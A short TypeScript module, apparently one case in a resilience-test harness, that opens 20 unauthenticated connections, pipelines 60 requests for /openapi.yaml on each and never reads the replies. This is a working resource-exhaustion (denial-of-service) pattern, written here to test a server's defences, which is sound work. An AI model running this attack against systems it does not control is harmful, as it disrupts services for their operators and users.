// 20 connections without credentials send 60 requests for the largest document at once and do not read the answers.
import type { Target } from '../target.ts';
import type { Attack } from './attack.ts';
import { dial, keep, requestBytes } from './wire.ts';

export default {
  name: '20 connections that pipeline 60 GET /openapi.yaml and do not read',
  async run(target: Target, signal: AbortSignal) {
    const requests = Buffer.concat(Array<Buffer>(60).fill(requestBytes('GET', '/openapi.yaml')));
    await keep(20, signal, async () => {
      const socket = await dial(target, {});
      socket.write(requests);
      return socket;
    });
  },
} satisfies Attack;
